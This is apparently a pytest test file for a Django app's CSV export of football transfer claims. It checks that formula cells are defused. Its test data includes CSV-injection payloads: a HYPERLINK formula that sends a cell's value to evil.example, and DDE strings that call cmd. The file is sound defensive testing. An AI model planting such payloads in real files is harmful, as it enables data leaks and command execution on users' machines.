import csv
import io

import pytest

from rumours.admin.csv_export import (
    CLAIM_COLUMNS,
    export_claims_csv,
    spreadsheet_safe,
)
from rumours.models import TransferClaim

from .factories import TransferClaimFactory

pytestmark = pytest.mark.django_db

FORMULA_QUOTES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+44 1234 567890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def read_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", FORMULA_QUOTES)
def test_spreadsheet_safe_defuses_formula_cells(text):
    assert spreadsheet_safe(text) == "'" + text


def test_spreadsheet_safe_leaves_ordinary_text_alone():
    assert spreadsheet_safe("AC Milan have enquired") == "AC Milan have enquired"


def test_claims_csv_escapes_every_formula_cell(reliability_report):
    for quote in FORMULA_QUOTES:
        TransferClaimFactory(quote=quote)

    rows = read_rows(export_claims_csv(TransferClaim.objects.all()))

    quotes = [row["quote"] for row in rows]
    assert quotes == ["'" + quote for quote in FORMULA_QUOTES]
    dangerous = [
        cell
        for row in rows
        for cell in row.values()
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    assert dangerous == []
    reliability_report(
        f"R23 csv-export: {len(FORMULA_QUOTES)} formula cells exported, "
        f"{len(dangerous)} left executable"
    )


def test_claims_csv_has_a_header_and_one_row_per_claim():
    claim = TransferClaimFactory(with_fee=True, player__name="Radu Dragusin")

    rows = read_rows(export_claims_csv(TransferClaim.objects.all()))

    assert list(rows[0]) == CLAIM_COLUMNS
    assert rows[0]["player"] == "Radu Dragusin"
    assert rows[0]["fee_amount"] == "25000000.00"
    assert rows[0]["amounts"] == "a fee of €25m"
    assert rows[0]["article"] == claim.article.slug


def test_claims_csv_runs_two_queries_whatever_the_number_of_claims(
    django_assert_num_queries,
):
    TransferClaimFactory.create_batch(30, with_fee=True)

    with django_assert_num_queries(2):
        export_claims_csv(TransferClaim.objects.all())
